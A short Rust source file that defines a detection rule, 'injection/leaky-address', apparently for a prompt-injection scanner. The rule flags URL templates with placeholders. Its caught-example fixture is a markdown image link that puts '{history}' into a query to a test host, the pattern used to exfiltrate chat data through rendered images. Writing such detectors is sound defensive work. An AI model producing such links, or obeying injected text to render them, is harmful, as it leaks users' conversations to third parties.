//! Addresses with a place for something in them.

use super::{Rule, Strength};

pub(super) const RULE: Rule = Rule {
    id: "injection/leaky-address",
    strength: Strength::Hint,
    can_be_negated: false,
    sentences: &[],
    marks: &["?q={", "?data={", "?d={", "?c={", "?text={", "?content={", "?msg={", "={{", "?data=[", "?q=["],
    caught: &["![x](https://a.test/p.png?data={history})"],
    left: &["let x = {a}", "https://a.test/?data=1"],
};
